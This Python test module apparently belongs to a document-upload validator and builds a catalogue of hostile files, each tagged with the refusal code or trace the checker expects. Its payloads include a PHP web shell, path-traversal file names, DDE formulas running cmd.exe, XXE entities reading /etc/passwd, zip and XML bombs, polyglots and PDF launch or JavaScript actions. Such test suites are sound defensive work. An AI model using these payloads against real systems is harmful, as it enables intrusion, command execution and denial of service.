"""Hostile uploads (恶意文件), each with what becomes of it: the code of its refusal or a trace.

``builders`` takes an address of our own that nothing may ever call; files point to it.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import docx
import openpyxl

from gongkai.formats.reading.limits import FILE_BYTES
from tests.formats.reading.layouts import PROSE, pdf_of
from tests.office.documents.files import (
    OFFICE,
    R,
    S,
    W,
    exif,
    jpeg,
    ofd,
    ole,
    package,
    paragraph,
    pdf,
    png,
    relations,
    saved,
    slides,
    stream,
    word,
    workbook,
    write,
    zipped,
)

BARRED = "barred"
"""The outcome of a file refused for its secrecy mark."""
PHP = b"<?php system($_GET['c']); ?>"
SCRIPT = b"<script>alert(1)</script>"
PROGRAM = b"MZ\x90\x00" + b"\0" * 200 + b"PE\0\0"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE_TYPE = f"{OFFICE}wordprocessingml.template.main+xml"
CELL = '<sheetData><row r="1"><c r="A1"><f>{}</f><v>1</v></c></row></sheetData>'
FIELD = '<w:p><w:fldSimple w:instr="{}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
PLAIN = word(paragraph("关于开展检查的通知"))


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file with its name; it is ``refused`` with a code, or taken with the trace that blocks."""

    data: bytes
    name: str
    refused: str = ""
    trace: str = ""


def hostile_files(address: str) -> dict[str, Hostile]:
    """Return every hostile file under what it tries."""
    found: dict[str, Hostile] = {}
    for group in (
        _names,
        _kinds,
        _polyglots,
        _pictures,
        _office,
        _packages,
        _pdfs,
        _actions,
        _marked,
    ):
        for what, each in group(address):
            assert what not in found
            found[what] = each
    return found


Group = Iterator[tuple[str, Hostile]]


def _names(address: str) -> Group:
    for what, name in {
        "a path upwards": "../../etc/cron.d/x.docx",
        "a path of the other slashes": "..\\..\\windows\\x.docx",
        "an absolute path": "/etc/passwd.docx",
        "a drive": "C:\\x.docx",
        "a share": "\\\\127.0.0.1\\x.docx",
        "an alternate data stream": "通知.docx:evil.exe",
        "a stream's own name": "通知.docx::$DATA",
        "a NUL in the name": "通知.docx\0.exe",
        "a line end in the name": "通知\r\nSet-Cookie: a=b.docx",
        "a name read from the right": "通知\u202excod.exe.docx",
        "an unseen sign in the name": "通知\u200b.docx",
        "an escape sequence": "通知\x1b[2J.docx",
        "half a character": "通知\ud800.docx",
        "ten thousand characters": "长" * 10_000 + ".docx",
        "a name of too many bytes": "长" * 84 + ".docx",
        "a device": "CON.docx",
        "a printer": "lpt1.docx",
        "a device with an ending more": "nul.tar.docx",
        "the server's own settings": ".htaccess",
        "a hidden file": ".docx",
        "only dots": "...",
        "nothing": "",
        "a blank": "  ",
        "a dot at the end": "通知.docx.",
        "a blank at the end": "通知.docx ",
        "markup in the name": "<img src=x onerror=alert(1)>.docx",
        "a command in the name": "a|b.docx",
        "a quotation in the name": 'a".docx',
    }.items():
        yield what, Hostile(PLAIN, name, refused="bad_name")
    yield "a program's ending", Hostile(PLAIN, "通知.docx.exe", refused="mismatch")
    yield "a page's ending", Hostile(PLAIN, "通知.docx.html", refused="mismatch")
    yield "a script's ending", Hostile("文".encode(), "通知.php", refused="mismatch")
    yield "no ending", Hostile(PLAIN, "通知", refused="no_ending")


def _kinds(address: str) -> Group:
    refused = {
        "a program": (PROGRAM, "工具.docx"),
        "a program of another system": (b"\x7fELF" + b"\0" * 60, "工具.pdf"),
        "a shortcut": (b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, "文件.pdf"),
        "a shortcut to a page": (b"[InternetShortcut]\nURL=http://x\n", "文件.txt"),
        "a shell script": (b"#!/bin/sh\nrm -rf x\n", "说明.txt"),
        "a batch": (b"@echo off\r\ndel x\r\n", "说明.txt"),
        "a registry file": (b"Windows Registry Editor Version 5.00\r\n", "说明.txt"),
        "a server page": (PHP, "照片.jpg"),
        "a server page as a table": (b"<% Response.Write(1) %>", "表.csv"),
        "a printer's program": (b"%!PS-Adobe-3.0\n(x) run\n", "说明.txt"),
        "a page as a text": (b"<!-- x -->\n<!DOCTYPE html>" + SCRIPT, "说明.txt"),
        "a page behind a mark": (b"\xef\xbb\xbf  " + SCRIPT, "说明.csv"),
        "a page as a picture": (b"<html>" + SCRIPT, "照片.png"),
        "a drawing with a script": (b'<svg xmlns="x" onload="alert(1)"/>', "图.png"),
        "a drawing behind its declaration": (b'<?xml version="1.0"?><svg>' + SCRIPT, "图.jpg"),
        "a mail with a page": (
            b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n<html>", "邮件.txt",
        ),
        "rich text with an object": (b"{\\rtf1{\\object\\objdata 01}}", "通知.doc"),
        "an archive": (b"Rar!\x1a\x07\0" + b"\0" * 60, "附件.pdf"),
        "a zip": (zipped({"a.txt": "甲"}), "附件.docx"),
        "zips in zips": (zipped({"a.zip": zipped({"b.zip": zipped({"c": "x"})})}), "附件.docx"),
        "a bomb": (zipped({"a.txt": b"\0" * 30_000_000}), "附件.xlsx"),
        "an app": (zipped({"AndroidManifest.xml": "x", "classes.dex": "x"}), "附件.docx"),
        "macros": (package("word/document.xml", {"word/document.xml": "<x/>"},
                           content_type=MACRO_TYPE), "通知.docx"),
        "a template": (package("word/document.xml", {"word/document.xml": "<x/>"},
                               content_type=TEMPLATE_TYPE), "通知.docx"),
        "a locked document": (ole("EncryptedPackage"), "通知.docx"),
        "a document torn off": (saved(docx.Document())[:900], "通知.docx"),
        "laughs in the list of parts": (
            zipped({"[Content_Types].xml": f"{_laughs()}<x>&f;</x>"}), "通知.docx",
        ),
        "an old file of no kind": (ole("Setup"), "安装.doc"),
        "nothing at all": (b"", "空.txt"),
        "a mark and nothing else": (b"\xef\xbb\xbf", "空.txt"),
        "zeros": (b"\0" * 4_000, "空.docx"),
        "any bytes": (bytes(range(256)) * 20, "乱码.pdf"),
        "a film as a picture": (b"\0\0\0\x18ftypmp42" + b"\0" * 60, "照片.jpg"),
        "a moving picture": (b"GIF89a" + b"\0" * 60, "图.png"),
    }  # fmt: skip
    for what, (data, name) in refused.items():
        yield what, Hostile(data, name, refused="not_allowed")
    yield "a workbook as a PDF", Hostile(saved(openpyxl.Workbook()), "公.pdf", refused="mismatch")
    yield "a text as a workbook", Hostile("甲,乙".encode(), "表.xlsx", refused="mismatch")
    yield "more than the limit", Hostile(b"x" * (FILE_BYTES + 1), "大.txt", refused="too_large")


def _polyglots(address: str) -> Group:
    printed = pdf(write("x"))
    archive = zipped({"a.exe": PROGRAM})
    for what, data, name in (
        ("a PDF that is a page as well", SCRIPT + printed, "公文.pdf"),
        ("a PDF that is a program as well", PROGRAM + printed, "公文.pdf"),
        ("a document that is a program as well", PROGRAM + PLAIN, "公文.docx"),
    ):
        yield what, Hostile(data, name, refused="not_allowed")
    for what, data, name in (
        ("a PDF that is a zip as well", printed + archive, "公文.pdf"),
        ("a picture that is a zip as well", jpeg(after=archive), "照片.jpg"),
        ("a picture that is a server page as well", png(after=PHP), "图.png"),
        ("a document with a program behind", PLAIN + PROGRAM, "公文.docx"),
    ):
        yield what, Hostile(data, name, trace="trailing_data")
    yield (
        "a picture that is a PDF as well",
        Hostile(jpeg() + printed, "照片.pdf", refused="mismatch"),
    )
    yield (
        "a picture that is none",
        Hostile(b"\xff\xd8\xff" + SCRIPT, "照片.jpg", trace="not_inspected"),
    )


def _pictures(address: str) -> Group:
    profile = b"ICC_PROFILE\0\1\1" + SCRIPT
    named, position = exif((0x010E, 9)), exif(gps=(2, 4))
    for what, data, name in (
        ("a server page in a comment", jpeg((0xFE, PHP)), "照片.jpg"),
        ("a server page in a maker's segment", jpeg((0xE5, PHP)), "照片.jpg"),
        ("a script in a colour profile", jpeg((0xE2, profile)), "照片.jpg"),
        ("markup in the description", jpeg((named[0], named[1] + SCRIPT)), "照片.jpg"),
        ("a script in XMP", jpeg((0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SCRIPT)), "照片.jpg"),
        ("a script in a PNG text", png((b"tEXt", b"Comment\0" + SCRIPT)), "图.png"),
        (
            "a script in a packed PNG text",
            png((b"zTXt", b"a\0\0" + zlib.compress(SCRIPT))),
            "图.png",
        ),
        ("a script in a PNG profile", png((b"iCCP", b"a\0\0" + zlib.compress(SCRIPT))), "图.png"),
        ("a program in a chunk of its own", png((b"evIl", PROGRAM)), "图.png"),
    ):
        yield what, Hostile(data, name, trace="picture_text")
    yield "where it was taken", Hostile(jpeg(position), "照片.jpg", trace="gps")
    huge = struct.pack(">II", 60_000, 60_000)
    yield "a picture to fill all memory", Hostile(_resized(huge), "图.png", trace="huge_picture")
    frame = struct.pack(">BHHB", 8, 65_000, 65_000, 1)
    yield "a photograph to fill it", Hostile(jpeg((0xC0, frame)), "图.jpg", trace="huge_picture")
    yield "a picture torn off", Hostile(png()[:40], "图.png", trace="not_inspected")
    torn = png((b"iCCP", b"a\0\0not packed"))
    yield "a profile that cannot be unpacked", Hostile(torn, "图.png", trace="not_inspected")


def _office(address: str) -> Group:
    outside = {
        "a DDE field": word(FIELD.format("DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;")),
        "a field in two runs": word(
            "<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r>"
            f'<w:r><w:instrText>PICTURE "{address}"</w:instrText></w:r></w:p>'
        ),
        "a text from elsewhere": word(FIELD.format(f"INCLUDETEXT &quot;{address}&quot;")),
        "a template from elsewhere": _linked("attachedTemplate", f"{address}/t.dotm"),
        "a picture from elsewhere": _linked("image", f"{address}/p.png"),
        "a picture from a share": _linked("image", "\\\\127.0.0.1\\x\\p.png"),
        "an object from elsewhere": _linked("oleObject", f"{address}/o"),
        "a frame from elsewhere": _linked("frame", f"{address}/f"),
    }
    for what, data in outside.items():
        yield what, Hostile(data, "通知.docx", trace="external_link")
    dde = f'<externalLink {S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    tables = {
        "a DDE link": workbook(parts={"xl/externalLinks/externalLink1.xml": dde}),
        "a DDE formula": workbook(CELL.format("cmd|'/c calc'!A0")),
        "a formula that calls": workbook(CELL.format(f'WEBSERVICE("{address}")')),
    }
    for what, data in tables.items():
        yield what, Hostile(data, "表.xlsx", trace="external_link")
    for what, text in (
        ("a DDE formula in a table", "单位,数\n=cmd|' /C calc'!A0,1\n"),
        ("a formula that calls in a table", f'单位,"=HYPERLINK(""{address}"",1)"\n'),
    ):
        yield what, Hostile(text.encode(), "表.csv", trace="external_link")
    act = '<p:sld xmlns:p="p"><x action="ppaction://program"/></p:sld>'
    runs = slides({"ppt/slides/slide1.xml": act})
    yield "a click that starts a program", Hostile(runs, "片.pptx", trace="script")
    embedded = {
        "an object inside": {"word/embeddings/oleObject1.bin": ole("Ole10Native")},
        "a control inside": {"word/activeX/activeX1.xml": "<x/>"},
        "a document within": {"word/_rels/extra.xml.rels": relations(("aFChunk", "chunk.html"))},
    }
    for what, parts in embedded.items():
        yield what, Hostile(_word_with(parts), "通知.docx", trace="embedded_file")
    macro = _word_with({"word/vbaProject.bin": ole("_VBA_PROJECT")})
    yield "macros undeclared", Hostile(macro, "通知.docx", trace="macro")
    old = ole("WordDocument", "_VBA_PROJECT")
    yield "macros in an old document", Hostile(old, "通知.doc", trace="macro")
    parts = {"xl/macrosheets/sheet1.xml": "<x/>"}
    yield (
        "macros of the oldest kind",
        Hostile(workbook(parts=parts), "表.xlsx", trace="macro_sheet"),
    )


def _packages(address: str) -> Group:
    entity = (
        f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document {W}>&a;</w:document>'
    )
    fetched = f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{address}/x.dtd"> %a;]><w:document {W}/>'
    external = f'<!DOCTYPE x SYSTEM "{address}/x.dtd"><w:document {W}/>'
    for what, content in {
        "an entity of the machine": entity,
        "an entity from elsewhere": fetched,
        "a definition from elsewhere": external,
        "a billion laughs": f"{_laughs()}<x>&f;</x>",
        "a quadratic blow-up": f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><x>{"&a;" * 5_000}</x>',
        "endless depth": "<a>" * 100_000,
        "a bomb in a part": b"<x>" + b" " * 40_000_000,
        "XML torn off": f"<w:document {W}><w:body>",
        "bytes that are no XML": b"\xff\xfe\x00<x",
    }.items():
        data = package("word/document.xml", {"word/document.xml": content})
        yield what, Hostile(data, "通知.docx", trace="not_inspected")
    many = word("<w:p/>", **{f"p{n}": "<x/>" for n in range(2_100)})
    yield "thousands of parts", Hostile(many, "通知.docx", trace="not_inspected")
    buffer = io.BytesIO(PLAIN)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/Document.xml", "<x/>")
    yield "two parts of one name", Hostile(buffer.getvalue(), "通知.docx", trace="not_inspected")
    slip = _word_with({"../../../evil.sh": "x"})
    yield "a part on its way out", Hostile(slip, "通知.docx", trace="unused_part")
    hidden = _word_with({"customXml/item1.xml": "<list><name>张甲</name></list>"})
    yield "data beside the text", Hostile(hidden, "通知.docx", trace="custom_xml")
    shared = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{address}">]><sst {S}>&a;</sst>'
    table = workbook(parts={"xl/sharedStrings.xml": shared, "xl/comments1.xml": shared})
    yield "an entity in a workbook", Hostile(table, "表.xlsx", trace="not_inspected")
    page = zipped({"OFD.xml": f'<!DOCTYPE x [<!ENTITY a SYSTEM "{address}">]><x>&a;</x>'})
    yield "an entity in an OFD", Hostile(page, "公文.ofd", trace="not_inspected")
    yield "an action in an OFD", Hostile(ofd(Document="<ofd:Action/>"), "公文.ofd", trace="script")


def _pdfs(address: str) -> Group:
    files = {
        10: b"<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>",
        11: stream(PROGRAM),
    }
    names = b"/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>"
    form = b"/AcroForm << /XFA 10 0 R >>"
    loop = b"1 0 obj\n<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 1>>\nendobj\n"
    for what, data, code in (
        ("a file inside", pdf(catalog=names, objects=files), "attachment"),
        ("a form of XML", pdf(catalog=form, objects={10: stream(b"<x/>")}), "form"),
        ("a lock", pdf(trailer=b"/Encrypt << /Filter /Standard >>"), "not_inspected"),
        ("a PDF torn off", pdf_of(PROSE)[:700], "not_inspected"),
        ("a PDF of nothing", b"%PDF-1.7\n%%EOF", "not_inspected"),
        (
            "pages that are themselves",
            b"%PDF-1.4\n" + loop + b"trailer\n<</Root 1 0 R>>",
            "not_inspected",
        ),
    ):
        yield what, Hostile(data, "公文.pdf", trace=code)


def _actions(address: str) -> Group:
    link = address.encode()
    on_page = pdf(page=b"/AA << /O << /S /URI /URI (%s) >> >>" % link)
    yield "an address on a page", Hostile(on_page, "公文.pdf", trace="script")
    for what, does in {
        "a script on opening": b"/JavaScript /JS (app.alert(1))",
        "a program on opening": b"/Launch /F (cmd.exe)",
        "an address on opening": b"/URI /URI (%s)" % link,
        "a form that sends itself": b"/SubmitForm /F (%s)" % link,
        "a file of a share on opening": b"/GoToR /F (//127.0.0.1/x)",
    }.items():
        data = pdf(catalog=b"/OpenAction << /S %s >>" % does)
        yield what, Hostile(data, "公文.pdf", trace="script")


def _marked(address: str) -> Group:
    mark = "机密★10年"
    header = f"<w:hdr {W}>{paragraph(mark)}</w:hdr>"
    for what, data, name in (
        ("a secret", word(paragraph(mark)), "通知.docx"),
        ("a secret in the header", word(paragraph("甲"), header1=header), "通知.docx"),
        ("a secret in hidden words", word(paragraph(mark, "<w:vanish/>")), "通知.docx"),
        ("a secret in an old encoding", "秘密★".encode("gb18030"), "说明.txt"),
        ("a secret in wide characters", "绝密★".encode("utf-16"), "说明.txt"),
        ("a secret in the name", PLAIN, "绝密★通知.docx"),
        ("a secret in the middle of a table", "甲,乙\n机密★,1\n".encode(), "表.csv"),
    ):
        yield what, Hostile(data, name, refused=BARRED)


def _laughs() -> str:
    levels = "".join(
        f'<!ENTITY {name} "{f"&{former};" * 10}">'
        for former, name in zip("abcde", "bcdef", strict=True)
    )
    return f'<!DOCTYPE x [<!ENTITY a "haha">{levels}]>'


def _word_with(parts: dict[str, str | bytes]) -> bytes:
    document = f"<w:document {W} {R}><w:body>{paragraph('通知')}</w:body></w:document>"
    return package("word/document.xml", {"word/document.xml": document, **parts})


def _linked(kind: str, target: str) -> bytes:
    return _word_with({"word/_rels/header1.xml.rels": relations((kind, target, "External"))})


def _resized(size: bytes) -> bytes:
    """A PNG whose head says it were of that width and height."""
    whole = png()
    head = b"IHDR" + size + whole[24:29]
    return whole[:12] + head + struct.pack(">I", zlib.crc32(head)) + whole[33:]
